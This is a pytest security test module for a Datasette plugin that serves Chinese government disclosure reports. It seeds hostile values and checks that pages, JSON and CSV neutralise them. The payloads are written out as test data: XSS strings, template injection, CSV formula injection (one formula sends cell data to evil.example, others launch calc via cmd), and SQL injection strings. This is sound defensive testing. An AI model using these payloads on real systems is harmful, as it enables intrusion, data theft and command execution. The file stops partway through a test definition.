"""Hostile data and hostile requests against the plugin's pages.

A database whose every displayed field carries markup, ``javascript:`` URLs,
template syntax and spreadsheet formulas is served, and every page and
rendition is checked: HTML inert (nothing executable in the DOM, the text
escaped), JSON proper strings with no markup characters, CSV cells that a
spreadsheet would run as formulas prefixed with ``'``. Query parameters and
path ids are fuzzed: never a 500, never an unexpected row, never user input in
SQL text. Every route refuses writes, and the served database's bytes are
unchanged at the end of the module.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import inspect
import io
import json
import re
import shlex
import shutil
import sqlite3
from pathlib import Path
from unittest import mock
from urllib.parse import quote, urlencode

import pytest
import sqlite_utils
from bs4 import BeautifulSoup
from datasette.app import Datasette
from datasette.utils import tilde_encode
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import escape

from datasette_gaireports.build import build
from datasette_gaireports.finish import refresh_summaries
from datasette_gaireports.pages.common import csv_cell
from datasette_gaireports.pages.links import snippet

from .conftest import report_ids

SEEDS = Path(__file__).parent / "fixtures" / "seeds"
README = Path(__file__).parents[1] / "README.md"
DB = "gaireports"

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SVG = "<svg onload=alert(1)>"
JS = "javascript:alert(1)"
TEMPLATE = "{{ 7*191919 }}{% if 1 %}{{ config }}{% endif %}"
EVALUATED = "1343433"  # what TEMPLATE's expression would print if it were ever evaluated
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
)

FAILING_SOURCE = f"{IMG}.txt"
LEGACY_SOURCE = f"{SCRIPT}.txt"  # a folder "<script>alert(1)<" holding "script>.txt"
PROSE_SOURCE = f"{JS}.txt"
UNPARSED_SOURCE = "{{ 7*191919 }}.txt"
FORMULA_SOURCE = "=1+1 cmd|' -C calc'!A0.txt"

FAILING_ID = IMG  # the failing report's id, rewritten
FAILING_AGENCY_ID = JS
LEGACY_AGENCY_ID = SVG
HOSTILE_RULE = "@R9" + IMG
HOSTILE_SCOPE = "-1-1" + SVG


def payload(n: int, tag: str) -> str:
    """A hostile value: one of the formulas, then markup, a URL and template syntax, then where it is."""
    return f"{FORMULAS[n % len(FORMULAS)]}{SCRIPT}{IMG}{JS} {TEMPLATE} #{tag}"


H = {
    key: payload(n, key)
    for n, key in enumerate(
        (
            "agency.name", "agency.name2", "agency.printed1", "agency.printed2", "agency.province", "agency.level",
            "report.title", "report.reason", "report.published", "report.encoding", "report.reader",
            "report.index_no", "report.doc_no", "report.agency_printed", "report.agency_source",
            "report.unparsed_reason", "report.check_status",
            "rule.description_zh", "rule.description_en", "rule.formula", "rule.family",
            "format.title", "check.note", "cell.unit", "cell.position", "cell.flag", "legacy.sentence",
            "requests.label", "text.line",
        )
    )
}
CELL_RAWS = {  # cell of the failing report → raw text
    "new.natural_person": FORMULAS[0],
    "new.commercial": FORMULAS[1],
    "new.research": FORMULAS[2],
    "new.public_interest": FORMULAS[3],
    "new.legal_service": FORMULAS[4],
    "new.other_org": FORMULAS[5],
    "new.total": SCRIPT,
    "carried_in.natural_person": IMG,
    "carried_in.commercial": JS,
    "carried_in.research": TEMPLATE,
    "carried_in.total": "-3",
    "carried_forward.total": "-",
}
NEGATIVE_CELL = "carried_in.total"  # stored as the number -3


def _hostile_inputs(folder: Path) -> None:
    """The seeds under hostile file names, with markup in the failing report's title and text."""
    seed = {p.name[:3]: p.read_text(encoding="utf-8") for p in SEEDS.glob("*.txt")}
    failing = seed["000"].split("\n", 1)[1].replace("(一)予以公开\n\n27\n", "(一)予以公开\n\n29\n", 1)
    (folder / FAILING_SOURCE).write_text(f"{SCRIPT}市2019年度政府信息公开工作报告\n{failing}", encoding="utf-8")
    (folder / "<script>alert(1)<").mkdir()
    (folder / "<script>alert(1)<" / "script>.txt").write_text(seed["002"] + f"\n{SCRIPT}\n", encoding="utf-8")
    (folder / PROSE_SOURCE).write_text(seed["003"].replace("共收到", f"{IMG}共收到", 1), encoding="utf-8")
    (folder / UNPARSED_SOURCE).write_text(f"{SCRIPT} {TEMPLATE} not a report\n", encoding="utf-8")
    (folder / FORMULA_SOURCE).write_text(seed["001"], encoding="utf-8")
    (folder / "004.txt").write_text(seed["004"], encoding="utf-8")


def _rename_report(conn: sqlite3.Connection, old: str, new: str) -> None:
    for (table,) in conn.execute("select name from sqlite_master where type = 'table'").fetchall():
        cols = {r[1] for r in conn.execute(f'pragma table_info("{table}")')}
        for col in {"report_id", "related_report_id", "duplicate_of"} & cols:
            conn.execute(f'update "{table}" set "{col}" = ? where "{col}" = ?', [new, old])


def _rename_agency(conn: sqlite3.Connection, old: str, new: str) -> None:
    conn.execute("update agencies set agency_id = ? where agency_id = ?", [new, old])
    conn.execute("update reports set agency_id = ? where agency_id = ?", [new, old])


def make_hostile_db(folder: Path, db: Path) -> None:
    """Build the hostile inputs with the project's build, then put hostile text in every displayed field."""
    _hostile_inputs(folder)
    build([folder], db)
    conn = sqlite3.connect(db)
    ids = dict(conn.execute("select source, report_id from reports"))
    agency = dict(conn.execute("select report_id, agency_id from reports"))
    failing, legacy, prose, unparsed = (
        ids[FAILING_SOURCE], ids[LEGACY_SOURCE], ids[PROSE_SOURCE], ids[UNPARSED_SOURCE]
    )
    assert conn.execute("select count(*) from checks where report_id = ? and status = 'fail'", [failing]).fetchone()[0]
    for report_id in (failing, legacy, prose):
        conn.execute(
            "update reports set title = ?, reason = ?, published = ?, encoding = ?, reader = ?, index_no = ?,"
            " doc_no = ?, agency_printed = ?, agency_source = ?, text = text || ? where report_id = ?",
            [H["report.title"], H["report.reason"], H["report.published"], H["report.encoding"], H["report.reader"],
             H["report.index_no"], H["report.doc_no"], H["report.agency_printed"], H["report.agency_source"],
             "\n" + H["text.line"] + "\n" + SCRIPT, report_id],
        )
    conn.execute(
        "update reports set reason = ?, check_status = ? where report_id = ?",
        [H["report.unparsed_reason"], H["report.check_status"], unparsed],
    )
    conn.execute(
        "update agencies set name = ?, names_printed = ?, province = ?, level = ? where agency_id = ?",
        [H["agency.name"], json.dumps([H["agency.printed1"], H["agency.printed2"]]), H["agency.province"],
         H["agency.level"], agency[failing]],
    )
    conn.execute("update agencies set name = ?, names_printed = ? where agency_id = ?",
                 [H["agency.name2"], "not json", agency[legacy]])
    for cell, raw in CELL_RAWS.items():
        value = -3 if cell == NEGATIVE_CELL else None
        hit = conn.execute(
            "update cells set raw = ?, value = coalesce(?, value) where report_id = ? and cell = ?",
            [raw, value, failing, cell],
        )
        assert hit.rowcount == 1, cell
    conn.execute("update requests set total = -3 where report_id = ? and row = 'carried_in'", [failing])
    conn.execute(
        "update cells set unit = ?, position = ?, flag = ? where report_id = ? and cell = 'granted.natural_person'",
        [H["cell.unit"], H["cell.position"], H["cell.flag"], failing],
    )
    conn.execute("update legacy set sentence = ? where report_id = ?", [H["legacy.sentence"], prose])
    conn.execute("update requests set label = ? where report_id = ?", [H["requests.label"], failing])
    conn.execute("update formats set title = ? where format = '2019'", [H["format.title"]])
    conn.execute(
        "update rules set description_zh = ?, description_en = ?, formula = ? where rule = 'R2'",
        [H["rule.description_zh"], H["rule.description_en"], H["rule.formula"]],
    )
    conn.execute(
        "insert into rules (rule, family, relation, severity, formula, description_zh, description_en, formats)"
        " values (?, ?, '=', 'fail', ?, ?, ?, '2019')",
        [HOSTILE_RULE, H["rule.family"], H["rule.formula"], H["rule.description_zh"], H["rule.description_en"]],
    )
    hostile_instance = conn.execute(
        "insert into rule_instances (instance, rule, scope, formats, equation, cells, left_cells)"
        " values ((select max(instance) + 1 from rule_instances), ?, ?, '2019', ?, ?, 1) returning instance",
        [HOSTILE_RULE, HOSTILE_SCOPE, H["rule.formula"], json.dumps(["granted.natural_person", SCRIPT])],
    ).fetchone()[0]
    conn.execute(
        "insert into checks (report_id, rule, scope, status, left, right, difference, instance, missing, note)"
        " values (?, ?, ?, 'fail', 1, 2, -1, ?, ?, ?)",
        [failing, HOSTILE_RULE, HOSTILE_SCOPE, hostile_instance, '{"not": "a list"}', H["check.note"]],
    )
    conn.execute("update checks set note = ? where report_id = ? and rule = 'R2'", [H["check.note"], failing])
    first_check = "update checks set status = ? where rowid = (select min(rowid) from checks where report_id = ?)"
    conn.execute(first_check, [SCRIPT, prose])
    conn.execute(first_check, ["fail", ids[FORMULA_SOURCE]])
    _rename_report(conn, failing, FAILING_ID)
    _rename_agency(conn, agency[failing], FAILING_AGENCY_ID)
    _rename_agency(conn, agency[legacy], LEGACY_AGENCY_ID)
    refresh_summaries(sqlite_utils.Database(conn))  # the status pages read the counts and list kept at build time
    conn.commit()
    conn.close()


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, str]:
    """(database path, its sha256 before any request) — served mutable, so a write would show."""
    folder = tmp_path_factory.mktemp("hostile_inputs")
    db = tmp_path_factory.mktemp("hostile_security") / f"{DB}.db"
    make_hostile_db(folder, db)
    return db, sha256(db)


class Recorder:
    """Every SQL statement run on one database, and every write attempted."""

    def __init__(self, db):
        self.reads: list[tuple[str, object]] = []
        self.writes: list[str] = []
        execute = db.execute

        async def recorded(sql, params=None, *args, **kwargs):
            self.reads.append((sql, params))
            return await execute(sql, params, *args, **kwargs)

        db.execute = recorded
        for name in ("execute_write", "execute_write_fn", "execute_write_script", "execute_write_many"):
            original = getattr(db, name)

            async def write(*args, _name=name, _original=original, **kwargs):
                self.writes.append(_name)
                return await _original(*args, **kwargs)

            setattr(db, name, write)


@pytest.fixture(scope="module")
def served(hostile) -> tuple[Datasette, Recorder]:
    db, _ = hostile
    ds = Datasette([str(db)])
    return ds, Recorder(ds.get_database(DB))


def get(ds: Datasette, path: str, **kwargs):
    return asyncio.run(ds.client.get(path, **kwargs))


def status_page() -> str:
    return f"/{DB}/-/gaireports"


def report_page(report_id: str, ext: str = "") -> str:
    return f"/{DB}/-/gaireports/report/{tilde_encode(report_id)}{ext}"


def agency_page(agency_id: str) -> str:
    return f"/{DB}/-/gaireports/agency/{tilde_encode(agency_id)}"


# --- HTML ---------------------------------------------------------------------------------------

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
FORBIDDEN_TAGS = {"img", "iframe", "object", "embed", "base", "frame", "applet"}


def assert_inert(html: str, where: str) -> BeautifulSoup:
    """Nothing in the page runs page content: no event handlers, no script URLs, no injected
    elements, no injected script, no template expression evaluated."""
    for raw in (SCRIPT, "<img", "<svg onload", "<script>alert"):
        assert raw not in html, (where, raw)
    assert EVALUATED not in html, where
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name not in FORBIDDEN_TAGS, (where, str(tag)[:200])
        for name, value in tag.attrs.items():
            assert not name.lower().startswith("on"), (where, name, str(tag)[:200])
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower() in URL_ATTRIBUTES:
                scheme = re.sub(r"[\x00-\x20]", "", text).lower()
                assert not scheme.startswith(("javascript:", "vbscript:", "data:")), (where, name, text)
                assert text.startswith(("/", "#", "?", "http://", "https://")) or text == "", (where, name, text)
                assert not text.startswith("//"), (where, name, text)
        if tag.name == "script":
            assert "alert(" not in tag.get_text(), where
            src = tag.get("src", "/-/static/")
            assert isinstance(src, str) and src.startswith("/-/static/"), where
    return soup


def shown(html: str, value: str) -> bool:
    """Whether ``value`` is in the page as escaped text (the way Jinja writes it)."""
    return str(escape(value)) in html


@pytest.mark.parametrize(
    "path",
    ["/-/gaireports", status_page(), f"{status_page()}?size=1&page=2"],
)
def test_status_pages_are_inert(served, path):
    ds, _ = served
    r = get(ds, path)
    assert r.status_code == 200 and r.headers["x-content-type-options"] == "nosniff"
    html = r.text
    assert_inert(html, path)
    if "page=2" in path:
        return
    for key in ("rule.description_zh", "rule.description_en", "rule.family", "agency.province", "agency.level"):
        assert shown(html, H[key]), key
    assert shown(html, f"2019 · {H['format.title']}")
    for value in (H["agency.name"], FAILING_SOURCE, HOSTILE_SCOPE, HOSTILE_RULE):  # the failing list
        assert shown(html, value), value
    assert f'data-report="{escape(FAILING_ID)}"' in html


def test_agency_pages_are_inert(served, hostile):
    ds, _ = served
    failing = get(ds, agency_page(FAILING_AGENCY_ID))
    assert failing.status_code == 200 and failing.headers["x-content-type-options"] == "nosniff"
    html = failing.text
    soup = assert_inert(html, "agency")
    for key in ("agency.name", "agency.printed1", "agency.printed2", "report.title", "report.published"):
        assert shown(html, H[key]), key
    assert shown(html, FAILING_SOURCE) and shown(html, H["format.title"])
    assert soup.title is not None and soup.title.get_text().startswith(H["agency.name"])
    for a in soup.find_all("a", href=True):
        href = a["href"]
        assert isinstance(href, str) and not href.startswith(JS)
    legacy = get(ds, agency_page(LEGACY_AGENCY_ID))  # names_printed is not JSON there
    assert legacy.status_code == 200
    assert_inert(legacy.text, "legacy agency")
    assert shown(legacy.text, H["agency.name2"]) and shown(legacy.text, LEGACY_SOURCE)


def test_report_page_is_inert(served, hostile):
    ds, _ = served
    r = get(ds, report_page(FAILING_ID))
    assert r.status_code == 200 and r.headers["x-content-type-options"] == "nosniff"
    html = r.text
    soup = assert_inert(html, "report")
    for key in (
        "agency.name", "report.title", "report.reason", "report.published", "report.encoding", "report.reader",
        "report.index_no", "report.doc_no", "report.agency_printed", "report.agency_source", "format.title",
        "check.note", "rule.description_zh", "rule.description_en", "cell.unit", "cell.position", "cell.flag",
        "text.line",
    ):
        assert shown(html, H[key]), key
    for raw in CELL_RAWS.values():
        assert shown(html, f"“{raw}”"), raw  # the raw text in the cell's tooltip
    assert shown(html, FAILING_SOURCE) and shown(html, FAILING_ID) and shown(html, HOSTILE_SCOPE)
    ol = soup.find("ol", class_="gr-source")
    assert ol is not None
    lines = ol.find_all("li")
    assert [li.get_text() for li in lines[-2:]] == [H["text.line"], SCRIPT]
    assert 'id="gr-check-R9-img-src-x-onerror-alert-1-' in html  # element ids are slugs
    ids = report_ids(hostile[0])
    others = {source: get(ds, report_page(ids[source])) for source in (PROSE_SOURCE, LEGACY_SOURCE, UNPARSED_SOURCE)}
    for source, other in others.items():
        assert other.status_code == 200, source
        assert_inert(other.text, source)
    assert shown(others[PROSE_SOURCE].text, H["legacy.sentence"])
    unparsed = others[UNPARSED_SOURCE].text
    assert shown(unparsed, H["report.unparsed_reason"]) and shown(unparsed, UNPARSED_SOURCE)


def test_error_pages_are_inert(served):
    ds, _ = served
    for path in (report_page(SCRIPT), agency_page(IMG), report_page(TEMPLATE), f"/-/gaireports/report/{tilde_encode(SCRIPT)}"):
        r = get(ds, path)
        assert r.status_code == 404, path
        assert_inert(r.text, path)
    data = get(ds, report_page(SCRIPT, ".json"))
    assert data.status_code == 404 and data.json()["error"] == f"Report not found: {SCRIPT}"


@pytest.mark.parametrize(
    "path",
    [
        "/", f"/{DB}", f"/{DB}/reports", f"/{DB}/agencies", f"/{DB}/checks", f"/{DB}/checks?status=fail",
        f"/{DB}/cells", f"/{DB}/rules", f"/{DB}/formats", f"/{DB}/requests", f"/{DB}/legacy",
        f"/{DB}/reports/{tilde_encode(FAILING_ID)}", f"/{DB}/agencies/{tilde_encode(FAILING_AGENCY_ID)}",
        f"/{DB}/agencies/{tilde_encode(LEGACY_AGENCY_ID)}",
        f"/{DB}/checks/{','.join(tilde_encode(k) for k in (FAILING_ID, HOSTILE_RULE, HOSTILE_SCOPE))}",
        f"/{DB}/reports?_search={quote(SCRIPT)}",
    ],
)
def test_datasette_pages_with_plugin_links_are_inert(served, path):
    ds, _ = served
    r = get(ds, path)
    assert r.status_code == 200, path
    assert_inert(r.text, path)


def test_render_cell_links_are_escaped(served, hostile):
    ds, _ = served
    link = f"/{DB}/-/gaireports/report/{tilde_encode(FAILING_ID)}"
    row = get(ds, f"/{DB}/reports/{tilde_encode(FAILING_ID)}").text
    assert f'{escape(FAILING_ID)} <a href="{link}">报告复原页 →</a>' in row
    reports = get(ds, f"/{DB}/reports").text
    assert f'<a href="{link}" title="报告复原页 (report page)">' in reports
    assert shown(reports, f"{H['report.check_status']} · {H['report.check_status']}")  # unknown check status
    conn = sqlite3.connect(hostile[0])
    (text,) = conn.execute("select text from reports where source = ?", [UNPARSED_SOURCE]).fetchone()
    conn.close()
    assert text.startswith(SCRIPT) and f'<span class="gr-snippet">{escape(snippet(text))}</span>' in reports
    agencies = get(ds, f"/{DB}/agencies").text
    page = f"/{DB}/-/gaireports/agency/{tilde_encode(FAILING_AGENCY_ID)}"
    assert f'<a href="{page}" title="机构页 (agency page)">{escape(H["agency.name"])}</a>' in agencies
    agency_row = get(ds, f"/{DB}/agencies/{tilde_encode(FAILING_AGENCY_ID)}").text
    assert f'{escape(FAILING_AGENCY_ID)} <a href="{page}">机构页 →</a>' in agency_row
    checks = get(ds, f"/{DB}/checks?status={quote(SCRIPT)}").text
    assert f'title="报告复原页 (report page)">{escape(SCRIPT)}</a>' in checks
    check_row = get(ds, f"/{DB}/checks/{','.join(tilde_encode(k) for k in (FAILING_ID, HOSTILE_RULE, HOSTILE_SCOPE))}")
    assert f'<a href="{link}" title="报告复原页 (report page)">fail</a>' in check_row.text
    menu = get(ds, "/").text
    assert '<a href="/-/gaireports">勾稽检查状态 (gaireports)</a>' in menu
    actions = get(ds, f"/{DB}/checks").text
    assert f'<a href="/{DB}/-/gaireports/failing.csv">' in actions


def test_instance_report_url_redirects_within_the_site(served):
    ds, _ = served
    r = get(ds, f"/-/gaireports/report/{tilde_encode(FAILING_ID)}.json?x={quote(IMG)}")
    assert r.status_code == 302
    location = r.headers["location"]
    assert location.startswith(f"/{DB}/-/gaireports/report/") and not location.startswith("//")
    assert location == report_page(FAILING_ID, ".json") + f"?x={quote(IMG)}"


# --- JSON ---------------------------------------------------------------------------------------


def json_body(r) -> dict:
    assert r.status_code == 200
    assert r.headers["content-type"] == "application/json; charset=utf-8"
    assert r.headers["x-content-type-options"] == "nosniff"
    assert not set("<>&") & set(r.text), "markup characters are \\u-escaped"
    return json.loads(r.text)


def test_report_json_keeps_the_text_as_it_is(served):
    ds, _ = served
    data = json_body(get(ds, report_page(FAILING_ID, ".json")))
    report = data["report"]
    assert report["report_id"] == FAILING_ID and report["agency_id"] == FAILING_AGENCY_ID
    assert report["source"] == FAILING_SOURCE and report["agency"] == H["agency.name"]
    for field in ("title", "reason", "published", "encoding", "reader", "agency_printed", "agency_source"):
        assert report[field] == H[f"report.{field}"], field
    assert report["format_title"] == H["format.title"]
    cells = {c["cell"]: c for t in data["tables"] for r in t["rows"] for c in r["cells"]}
    for cell, raw in CELL_RAWS.items():
        assert cells[cell]["raw"] == raw, cell
    assert cells[NEGATIVE_CELL]["value"] == -3
    granted = cells["granted.natural_person"]
    assert (granted["unit"], granted["position"], granted["flag"]) == (H["cell.unit"], H["cell.position"], H["cell.flag"])
    hostile_check = next(c for c in data["failing"] if c["rule"] == HOSTILE_RULE)
    assert hostile_check["scope"] == HOSTILE_SCOPE and hostile_check["note"] == H["check.note"]
    assert hostile_check["cells"] == ["granted.natural_person", SCRIPT] and hostile_check["missing"] == []
    assert data["text"].splitlines()[-2:] == [H["text.line"], SCRIPT]


@pytest.mark.parametrize("path", [f"{status_page()}/failing.json", "/-/gaireports/failing.json"])
def test_failing_json_keeps_the_text_as_it_is(served, path):
    ds, _ = served
    data = json_body(get(ds, path))
    rows = [r for r in data["rows"] if r["report_id"] == FAILING_ID]
    assert {r["rule"] for r in rows} == {"R2", "R3", HOSTILE_RULE}
    hostile_row = next(r for r in rows if r["rule"] == HOSTILE_RULE)
    assert hostile_row["scope"] == hostile_row["scope_label"] == HOSTILE_SCOPE
    assert all(r["agency"] == H["agency.name"] and r["source"] == FAILING_SOURCE for r in rows)
    assert all(r["agency_id"] == FAILING_AGENCY_ID for r in rows)
    assert all(r["report_url"] == report_page(FAILING_ID) for r in rows)


# --- CSV ----------------------------------------------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?(?:[0-9]+(?:\.[0-9]+)?|\.[0-9]+)|-+")


@pytest.mark.parametrize(
    "value, expected",
    [
        (-3, "-3"), (-2.0, "-2"), (-0.5, "-0.5"), (0, "0"), (None, ""), ("-3", "-3"), ("-1.25", "-1.25"),
        ("-", "-"), ("--", "--"), ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("-3 ", "'-3 "),
        ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-cmd", "'-cmd"),
        (" =1", " =1"), ("1=1", "1=1"), ("铁岭市", "铁岭市"), (SCRIPT, SCRIPT),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def csv_rows(r) -> list[dict[str, str]]:
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["x-content-type-options"] == "nosniff"
    disposition = r.headers["content-disposition"]
    assert re.fullmatch(r'inline; filename="[A-Za-z0-9_.-]+"; filename\*=UTF-8\'\'[A-Za-z0-9_.~%-]+', disposition)
    rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
    for row in rows:
        for value in row.values():
            if value.startswith(FORMULA_START):
                assert PLAIN_NUMBER.fullmatch(value), value
    return rows


def test_report_csv_neutralises_formulas(served):
    ds, _ = served
    rows = {r["cell"]: r for r in csv_rows(get(ds, report_page(FAILING_ID, ".csv")))}
    for cell, raw in CELL_RAWS.items():
        expected = raw if PLAIN_NUMBER.fullmatch(raw) else ("'" + raw if raw.startswith(FORMULA_START) else raw)
        assert rows[cell]["raw"] == expected, cell
    assert rows[NEGATIVE_CELL]["value"] == "-3"
    assert rows["carried_forward.total"]["raw"] == "-"
    granted = rows["granted.natural_person"]
    for field in ("unit", "position", "flag"):
        assert granted[field] == "'" + H[f"cell.{field}"], field  # every payload starts like a formula
    assert granted["failing_checks"] == "R2:natural_person R3:granted"


@pytest.mark.parametrize("path", [f"{status_page()}/failing.csv", "/-/gaireports/failing.csv"])
def test_failing_csv_neutralises_formulas(served, path):
    ds, _ = served
    rows = [r for r in csv_rows(get(ds, path)) if r["report_id"] == FAILING_ID]
    assert {r["rule"] for r in rows} == {"R2", "R3", "'" + HOSTILE_RULE}
    assert all(r["agency"] == "'" + H["agency.name"] for r in rows)  # the name starts with =HYPERLINK
    assert all(r["source"] == FAILING_SOURCE and r["agency_id"] == FAILING_AGENCY_ID for r in rows)
    hostile_row = next(r for r in rows if r["rule"] == "'" + HOSTILE_RULE)
    assert hostile_row["scope"] == hostile_row["scope_label"] == "'" + HOSTILE_SCOPE
    assert (hostile_row["left"], hostile_row["right"], hostile_row["difference"]) == ("1", "2", "-1")
    r2 = next(r for r in rows if r["rule"] == "R2")
    assert r2["difference"] == "-2"  # a negative figure stays a number


def test_agency_renditions_keep_the_text_and_neutralise_formulas(served):
    ds, _ = served
    rows = csv_rows(get(ds, agency_page(FAILING_AGENCY_ID) + ".csv"))
    assert rows and all(r["agency"] == "'" + H["agency.name"] for r in rows)  # the name starts with =HYPERLINK
    data = json_body(get(ds, agency_page(FAILING_AGENCY_ID) + ".json"))
    assert data["agency"]["name"] == H["agency.name"]
    assert "<" not in get(ds, agency_page(FAILING_AGENCY_ID) + ".json").text


def test_formula_file_name_is_neutralised_in_csv(served, hostile):
    ds, _ = served
    report_id = report_ids(hostile[0])[FORMULA_SOURCE]
    rows = [r for r in csv_rows(get(ds, f"{status_page()}/failing.csv")) if r["report_id"] == report_id]
    assert rows and all(r["source"] == "'" + FORMULA_SOURCE for r in rows)
    data = json_body(get(ds, report_page(report_id, ".json")))
    assert data["report"]["source"] == FORMULA_SOURCE
    html = get(ds, report_page(report_id)).text
    assert_inert(html, "formula source")
    assert shown(html, FORMULA_SOURCE)


# --- Query parameters and path ids --------------------------------------------------------------

LIST_ROUTES = (
    "/-/gaireports", status_page(), "/-/gaireports/failing.json", f"{status_page()}/failing.json",
    "/-/gaireports/failing.csv", f"{status_page()}/failing.csv",
)
PARAMS = ("rule", "year", "format", "page", "size")
ATTACKS = (
    "' OR 1=1 --", "1 OR 1=1", "1; drop table reports", "R2'; drop table reports; --", "%27", "%2527", "'",
    '" OR ""="', "R2' UNION SELECT report_id, 1, 1 FROM reports --", "2019) or (1=1", "R2%00", "\x00",
    "١٢٣", "２０１９", "²", "2019\n", " 2019", "+2019", "2019.0", "1e3", "0x7e3", "-1", "-2019", "0",
    "99999999999999999999999", str(2**63), "1000000", "1001", "☃" * 300, "\u202e\u2066", "%ff%fe", "%zz",
    SCRIPT, IMG, JS, TEMPLATE, "x" * 10_000, "R2" * 5_000,
)
READ_SQL = re.compile(r"\s*(select|with|pragma\s+\w+\s*(\(|;|$)|explain)\b", re.I | re.S)


def known_ids(db: Path, kind: str) -> set[str]:
    """The report ids (or, for an agency kind, the agency ids) in the database."""
    sql = "select agency_id from agencies" if kind.startswith("agency") else "select report_id from reports"
    conn = sqlite3.connect(db)
    try:
        return {x for (x,) in conn.execute(sql)}
    finally:
        conn.close()


def baseline(ds: Datasette) -> set[tuple]:
    """(database, report_id, rule, scope) of every failing check, unfiltered."""
    data = get(ds, "/-/gaireports/failing.json?size=1000").json()
    assert data["total"] == len(data["rows"])
    return {(r["database"], r["report_id"], r["rule"], r["scope"]) for r in data["rows"]}


def check_list_response(r, route: str, params: list[tuple[str, str]], expected: set[tuple]) -> None:
    """A 400, or a 200 whose failing rows are checks that exist and that match every filter given."""
    assert r.status_code in (200, 400), (route, params, r.status_code, r.text[:300])
    if r.status_code == 400:
        assert "Traceback" not in r.text
        return
    given = {k: v for k, v in params if k in PARAMS and v != ""}
    if route.endswith(".json"):
        rows = [(x["database"], x["report_id"], x["rule"], x["scope"], x["year"], x["format"]) for x in r.json()["rows"]]
    elif route.endswith(".csv"):
        rows = [
            (x["database"], x["report_id"], x["rule"].removeprefix("'"), x["scope"].removeprefix("'"),
             int(x["year"]) if x["year"] else None, x["format"])
            for x in csv.DictReader(io.StringIO(r.text, newline=""))
        ]
    else:
        assert_inert(r.text, route)
        return
    for database, report_id, rule, scope, year, fmt in rows:
        assert (database, report_id, rule, scope) in expected, (route, params)
        assert given.get("rule", rule) == rule and given.get("format", fmt) == fmt
        assert int(given.get("year", year or 0)) == (year or 0)


def test_every_list_parameter_rejects_or_filters_attacks(served):
    ds, recorder = served
    expected = baseline(ds)
    for route in LIST_ROUTES:
        for name in PARAMS:
            for value in ATTACKS:
                recorder.reads.clear()
                params = [(name, value)]
                r = get(ds, f"{route}?{name}={quote(value, safe='')}")
                check_list_response(r, route, params, expected)
                for sql, _ in recorder.reads:
                    assert READ_SQL.match(sql), sql
                    if len(value) >= 3 and not value.isdigit():
                        assert value not in sql, (route, name, value, sql)
            raw = get(ds, f"{route}?{name}=%27%20OR%201=1%20--&{name}=%ff")  # raw escapes, repeated
            assert raw.status_code == 400, (route, name)


def test_repeated_and_unknown_parameters(served):
    ds, _ = served
    expected = baseline(ds)
    for route in LIST_ROUTES:
        for name in PARAMS:
            assert get(ds, f"{route}?{name}=1&{name}=1").status_code == 400, (route, name)
        r = get(ds, f"{route}?rule=R2&_sort=report_id&sql={quote('select * from reports')}&x=1&x=2")
        check_list_response(r, route, [("rule", "R2")], expected)
    data = get(ds, f"{status_page()}/failing.json?rule=R2&year=2019&format=2019&page=1&size=1000").json()
    assert {(r["rule"], r["year"], r["format"]) for r in data["rows"]} == {("R2", 2019, "2019")}
    assert get(ds, f"{status_page()}/failing.json?rule=R2&page=1000000&size=1000").json()["rows"] == []


@pytest.mark.parametrize("kind", ["report", "report.json", "report.csv", "agency", "instance report"])
def test_every_path_id_is_a_bound_parameter(served, hostile, kind):
    ds, recorder = served
    known = known_ids(hostile[0], kind)
    for value in ATTACKS:
        recorder.reads.clear()
        encoded = tilde_encode(value)
        path = {
            "report": report_page(value),
            "report.json": report_page(value, ".json"),
            "report.csv": report_page(value, ".csv"),
            "agency": agency_page(value),
            "instance report": f"/-/gaireports/report/{encoded}",
        }[kind]
        r = get(ds, f"{path}?{quote(value, safe='')}={quote(value, safe='')}")
        if value in known:
            assert r.status_code == (302 if kind == "instance report" else 200), (kind, value)
            continue
        assert r.status_code == 404, (kind, value[:40], r.status_code)
        if not kind.endswith((".json", ".csv")):
            assert_inert(r.text, kind)
        for sql, _ in recorder.reads:
            assert READ_SQL.match(sql), sql
            if len(value) >= 3:
                assert value not in sql, (kind, value, sql)


def test_unknown_database_names_are_404(served):
    ds, _ = served
    for value in ("' OR 1=1 --", "x" * 10_000, SCRIPT, "_internal", "%27"):
        for suffix in ("/-/gaireports", "/-/gaireports/failing.json", "/-/gaireports/report/x", "/-/gaireports/agency/x"):
            r = get(ds, f"/{tilde_encode(value)}{suffix}")
            assert r.status_code in (403, 404), (value[:20], suffix, r.status_code)


TEXT = st.text(max_size=60) | st.sampled_from(ATTACKS) | st.integers(-(10**20), 10**20).map(str)


@settings(max_examples=150, deadline=None)
@given(
    route=st.sampled_from(LIST_ROUTES),
    params=st.lists(st.tuples(st.sampled_from(PARAMS) | st.text(max_size=8), TEXT), max_size=4),
)
def test_fuzzed_list_parameters_never_fail(served, params, route):
    ds, recorder = served
    expected = baseline(ds)
    recorder.reads.clear()
    r = get(ds, f"{route}?{urlencode(params, quote_via=quote)}")
    names = [k for k, _ in params if k in PARAMS]
    if len(names) != len(set(names)):
        assert r.status_code == 400
    check_list_response(r, route, params, expected)
    assert all(READ_SQL.match(sql) for sql, _ in recorder.reads)


@settings(max_examples=150, deadline=None)
@given(
    kind=st.sampled_from(["report", "report.json", "report.csv", "agency", "instance report"]),
    value=TEXT,
    encode=st.sampled_from(["tilde", "percent"]),
)
